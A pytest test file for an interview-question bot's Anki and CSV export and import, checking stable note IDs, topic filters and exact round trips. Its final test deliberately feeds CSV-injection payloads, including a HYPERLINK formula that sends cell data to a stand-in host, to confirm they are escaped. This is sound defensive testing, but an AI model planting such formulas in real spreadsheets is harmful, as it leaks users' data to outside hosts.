"""`interview-bot export`: an Anki deck read back with sqlite3, and CSV that round-trips."""

from __future__ import annotations

import csv
import html
import io
import json
import sqlite3
import zipfile
from pathlib import Path

import genanki
import pytest

from bot.bank import Bank, load_bank
from bot.cli import main
from bot.interop.anki import MODEL_ID
from bot.interop.csv_io import COLUMNS, parse_key_points
from tests.conftest import ROOT, shipped_bank, shipped_counts

FIX = ROOT / "tests" / "fixtures" / "interop"


@pytest.fixture(autouse=True)
def _clean_env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.delenv("BANK_PATH", raising=False)
    monkeypatch.chdir(tmp_path)


@pytest.fixture(scope="module")
def shipped() -> Bank:
    return shipped_bank()


def run(capsys: pytest.CaptureFixture[str], *argv: str | Path) -> tuple[int, str, str]:
    code = main([str(a) for a in argv])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


# Anki -----------------------------------------------------------------------------------------


def read_apkg(path: Path, tmp: Path) -> tuple[dict[str, tuple[list[str], set[str], int]], dict[str, str], set[int]]:
    """{guid: (fields, tags, deck id)}, {deck id: name}, model ids — straight from the SQLite file."""
    with zipfile.ZipFile(path) as z:
        z.extract("collection.anki2", tmp)
    con = sqlite3.connect(tmp / "collection.anki2")
    try:
        notes = {}
        for guid, flds, tags, mid, nid in con.execute("SELECT guid, flds, tags, mid, id FROM notes"):
            assert mid == MODEL_ID
            (deck,) = con.execute("SELECT did FROM cards WHERE nid = ?", (nid,)).fetchone()
            notes[guid] = (flds.split("\x1f"), set(tags.split()), deck)
        decks = {k: v["name"] for k, v in json.loads(con.execute("SELECT decks FROM col").fetchone()[0]).items()}
        models = {int(k) for k in json.loads(con.execute("SELECT models FROM col").fetchone()[0])}
    finally:
        con.close()
    return notes, decks, models


@pytest.mark.slow  # imports into (or exports) a copy of the whole 443-item bank: ~10–20 s
def test_anki_deck_has_one_note_per_question_with_stable_ids(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], shipped: Bank
) -> None:
    first, second = tmp_path / "a.apkg", tmp_path / "b.apkg"
    code, stdout, _ = run(capsys, "export", "anki", "--out", first)
    assert code == 0
    decks_used = len({q.topic for q in shipped.questions.values()})
    assert f"Wrote {first}: {len(shipped.questions)} notes in {decks_used} deck(s)" in stdout
    assert run(capsys, "export", "anki", "--out", second)[0] == 0

    notes, decks, models = read_apkg(first, tmp_path / "1")
    again, decks_again, _ = read_apkg(second, tmp_path / "2")
    assert len(notes) == len(shipped.questions) >= 106
    assert models == {MODEL_ID}
    # re-importing updates: the same GUIDs, note types and decks every time
    assert {g: n for g, n in notes.items()} == {g: n for g, n in again.items()}
    assert decks == decks_again

    q = shipped.resolve("463")
    assert q is not None
    fields, tags, deck = notes[genanki.guid_for("q463")]
    question, answer, key_points, topic, label = fields
    assert question == html.escape(q.text, quote=False)
    assert answer.startswith("<p><b>Activation recomputation") and "<br>" not in answer[:20]
    assert "<code>torch.utils.checkpoint.checkpoint(block, x, use_reentrant=False)</code>" in answer
    assert key_points.count("<li>") == len(q.key_points)
    assert html.escape(q.key_points[0].text, quote=False) in key_points
    assert (topic, label) == ("Обучение больших моделей", "463")
    assert tags == {"topic::training", "term::checkpoints", "term::gpu-memory", "term::backpropagation"}
    assert decks[str(deck)] == "Interview bot::Обучение больших моделей"
    task = shipped.resolve("t56")
    assert task is not None
    task_fields, task_tags, _ = notes[genanki.guid_for("t56")]
    assert task_fields[4] == "t56" and f"topic::{task.topic}" in task_tags


@pytest.mark.slow  # a whole-bank sweep or a process of its own: the slow step (README, Development)
def test_anki_topic_filter_and_overwrite_rule(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], shipped: Bank
) -> None:
    out = tmp_path / "lora.apkg"
    assert run(capsys, "export", "anki", "--out", out, "--topic", "lora", "--topic", "Общее")[0] == 0
    notes, decks, _ = read_apkg(out, tmp_path / "x")
    expected = {genanki.guid_for(q) for t in ("lora", "general") for q in shipped.topic_question_ids(t)}
    assert set(notes) == expected
    assert sorted(decks.values()) == ["Default", "Interview bot::LoRA", "Interview bot::Общее"]
    code, _, stderr = run(capsys, "export", "anki", "--out", out)
    assert code == 1 and "already exists; add --force" in stderr
    code, _, stderr = run(capsys, "export", "anki", "--out", tmp_path / "n.apkg", "--topic", "нет-такой")
    assert code == 2 and "no topic 'нет-такой'" in stderr


def test_anki_leaves_out_questions_without_an_answer(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bank_file = tmp_path / "vault.yaml"
    assert run(capsys, "import", FIX / "vault", "--out", bank_file, "--bank", "none")[0] == 0
    code, stdout, _ = run(capsys, "export", "anki", "--bank", bank_file, "--out", tmp_path / "v.apkg")
    assert code == 0
    notes, _, _ = read_apkg(tmp_path / "v.apkg", tmp_path / "v")
    assert len(notes) == 2  # the two questions whose answers were in the notes
    assert "Left out 9 question(s) without a reference answer" in stdout


# CSV ------------------------------------------------------------------------------------------


@pytest.mark.slow  # a whole-bank sweep or a process of its own: the slow step (README, Development)
def test_shipped_bank_round_trips_through_csv(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """bank → CSV → bank → CSV: the two CSV files are identical, and so are the two banks."""
    first, second, bank_file = tmp_path / "1.csv", tmp_path / "2.csv", tmp_path / "from-csv.yaml"
    code, _, stderr = run(capsys, "export", "csv", "--out", first)
    assert code == 0 and "Wrote" in stderr and "warning" not in stderr
    code, stdout, _ = run(capsys, "import", first, "--out", bank_file, "--bank", "none")
    total, questions, tasks = shipped_counts()
    assert code == 0 and f"Added {total} new: {questions} questions, {tasks} tasks." in stdout
    assert run(capsys, "export", "csv", "--bank", bank_file, "--out", second)[0] == 0
    assert first.read_bytes() == second.read_bytes()
    shipped, back = shipped_bank(), load_bank(bank_file)
    for q in shipped.questions.values():
        r = back.questions[q.id]
        assert (r.text, r.answer, r.key_points, r.terms, r.number, r.kind, r.difficulty, r.topic) == (
            q.text, q.answer, q.key_points, q.terms, q.number, q.kind, q.difficulty, q.topic,
        )  # fmt: skip


def test_csv_file_round_trips_through_a_bank(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A user's spreadsheet → bank → CSV keeps every question, answer, key point and term."""
    src = FIX / "questions_semicolon_bom.csv"
    bank_file, out, out2 = tmp_path / "b.yaml", tmp_path / "out.csv", tmp_path / "out2.csv"
    assert run(capsys, "import", src, "--out", bank_file, "--bank", "none")[0] == 0
    assert run(capsys, "export", "csv", "--bank", bank_file, "--out", out)[0] == 0
    original = list(csv.DictReader(io.StringIO(src.read_text(encoding="utf-8-sig")), delimiter=";"))
    exported = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert list(exported[0]) == list(COLUMNS)
    original = [row for row in original if row["Question"]]
    assert len(exported) == len(original) == 3
    for row, back in zip(original, exported, strict=True):
        assert back["question"] == row["Question"]
        number = row["Number"]
        assert (back["kind"], back["number"]) == (("task", "77") if number == "t77" else ("question", number))
        assert [t.strip() for t in back["terms"].split(",")] == [t.strip() for t in row["Terms"].split(",")]
        if row["Answer"]:
            assert back["answer"] == row["Answer"]
        if row["Key points"]:
            assert parse_key_points(back["key points"]) == parse_key_points(row["Key points"])
    # and once in the bank's own form, CSV → bank → CSV is exact
    bank2 = tmp_path / "b2.yaml"
    assert run(capsys, "import", out, "--out", bank2, "--bank", "none")[0] == 0
    assert run(capsys, "export", "csv", "--bank", bank2, "--out", out2)[0] == 0
    assert out.read_bytes() == out2.read_bytes()


@pytest.mark.slow  # a whole-bank sweep or a process of its own: the slow step (README, Development)
def test_csv_for_excel_and_to_stdout(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "excel.csv"
    assert run(capsys, "export", "csv", "--excel", "--topic", "lora", "--out", out)[0] == 0
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfid;topic;kind;number;question;answer;key points;terms;difficulty\r\n")
    bank_file = tmp_path / "lora.yaml"
    code, stdout, _ = run(capsys, "import", out, "--out", bank_file, "--bank", "none")
    assert code == 0 and "Added 14 new" in stdout
    code, stdout, _ = run(capsys, "export", "csv", "--topic", "lora")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(stdout)))
    assert len(rows) == 14 and {r["topic"] for r in rows} == {"lora"}
    assert run(capsys, "export", "csv", "--out", out)[0] == 1  # exists, no --force


def test_details_follow_ups_and_context_reach_anki_and_are_named_for_csv(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from tests.test_e2e_depth import BANK

    bank_dir = tmp_path / "bank"
    bank_dir.mkdir()
    (bank_dir / "bank.yaml").write_text(BANK, encoding="utf-8")
    code, _, _ = run(capsys, "export", "anki", "--bank", bank_dir, "--out", tmp_path / "d.apkg")
    assert code == 0
    notes, _, _ = read_apkg(tmp_path / "d.apkg", tmp_path / "d")
    ((fields, _, _),) = notes.values()
    front, back = fields[0], fields[1]
    assert front.startswith("<i>Речь о видах параллелизма") and "Какие виды знаешь?" in front
    assert "Подводные камни" in back and "Что спросят дальше" in back
    assert "Что такое пузырь в pipeline-параллелизме?" in back
    code, _, stderr = run(capsys, "export", "csv", "--bank", bank_dir, "--out", tmp_path / "d.csv")
    assert code == 0 and "follow-ups and context lines of 1 question(s) are not in the CSV" in stderr


def test_csv_export_never_hands_a_spreadsheet_a_formula(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Cells starting with = + - @ tab or CR are written with a leading ' (CSV injection), and read back
    without it: the round trip stays exact."""
    src = tmp_path / "evil.csv"
    rows = [
        ["question", "answer", "key points", "terms"],
        ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1 это ответ", "@SUM(A1:A9)\nвторой пункт", "-x"],
        ["Обычный вопрос про LoRA?", "- пункт списка\n- ещё пункт", "\tтаб в начале", "lora"],
    ]
    with src.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)
    bank_file, out, out2 = tmp_path / "b.yaml", tmp_path / "out.csv", tmp_path / "out2.csv"
    assert run(capsys, "import", src, "--out", bank_file, "--bank", "none")[0] == 0
    assert run(capsys, "export", "csv", "--bank", bank_file, "--out", out)[0] == 0
    exported = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    cells = [cell for row in exported[1:] for cell in row]
    assert cells, exported
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
    assert any(c.startswith("'=HYPERLINK") for c in cells) and any(c.startswith("'- пункт") for c in cells)
    bank2 = tmp_path / "b2.yaml"
    assert run(capsys, "import", out, "--out", bank2, "--bank", "none")[0] == 0
    assert "=HYPERLINK" in bank2.read_text(encoding="utf-8") and "'=HYPERLINK" not in bank2.read_text(encoding="utf-8")
    assert run(capsys, "export", "csv", "--bank", bank2, "--out", out2)[0] == 0
    assert out.read_bytes() == out2.read_bytes()
